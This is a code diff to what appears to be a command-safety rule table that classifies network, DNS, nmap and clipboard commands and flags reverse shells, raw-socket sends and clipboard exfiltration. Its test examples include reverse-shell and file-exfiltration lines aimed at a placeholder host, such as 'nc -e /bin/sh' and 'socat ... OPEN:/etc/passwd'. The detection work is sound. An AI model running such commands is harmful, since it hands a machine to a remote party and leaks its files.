@@ -1,8 +1,45 @@
 import { readRows } from "../effect-rows.ts";
 
+const ownMachine = "/\\b(?:localhost|127\\.0\\.0\\.1)\\b/";
+
 /** Talking to other machines, and changing how that is done. */
 export const networkEffects = readRows(
   `
+nc ncat netcat nc.openbsd nc.traditional socat telnet websocat pwncat cryptcat ztcp
+  words: names
+  prints: fetched
+  -e,-c,--exec,--sh-exec,--lua-exec | /(?:EXEC|SYSTEM|SHELL):/i => sends(network.remote-shell): Connects a program of this machine to the network: whoever is at the other end controls it. -> Use ssh.
+    yes: nc -e /bin/sh x.example 4444 ;; socat TCP:x.example:1 EXEC:sh
+  !-z !${ownMachine} @fed | !-z !${ownMachine} @private => sends(network.raw-socket): Sends data through a raw network connection. -> Use curl or scp to a named service.
+    yes: nc x.example 4444 <<< {}
+    no: nc -z x.example 22 <<< {} ;; nc localhost 4444 <<< {} ;; nc x.example 4444 <<< hello
+  /(?:OPEN|CREATE|FILE):/i => sends(network.raw-socket): Connects a file of this machine to the network. -> Use scp.
+    yes: socat TCP:x.example:1 OPEN:/etc/passwd
+  -l,--listen | /LISTEN/i => talks(network.listens): Opens a port on this machine.
+    yes: nc -l 8080
+  => talks(network.connects): Connects to another machine: {}.
+    yes: nc x.example 80
+dig nslookup host drill resolvectl-query kdig ping ping6 traceroute tracepath mtr whois fping nmap
+  words: names
+  prints: fetched
+  --script,--datadir,--scriptdb=/[/.]/ | /^--interactive$/ => runs-unread(option.runs-code): {word} makes {} run code from a file. -> Use the scripts that come with it, by name.
+    yes: nmap --script ./x.nse y ;; nmap --script=/tmp/x y
+    no: nmap --script vuln y
+  => talks(network.lookup): Talks to other machines: {}.
+    yes: dig example.com
+pbpaste wl-paste
+  prints: private
+  => shows(private.clipboard): Prints the clipboard, which often holds a password.
+    yes: pbpaste
+xclip xsel pbcopy wl-copy clip clip.exe
+  words: names
+  prints: private
+  -o,-out,--output => shows(private.clipboard): Prints the clipboard, which often holds a password.
+    yes: xclip -o
+  @private => sends(exfil.clipboard): Copies private data to the clipboard, where other programs read it. -> Send named, harmless data only.
+    yes: pbcopy <<< private
+  => writes(clipboard.write): Changes the clipboard.
+    yes: pbcopy
 rfkill
   !@any => looks
   list => looks
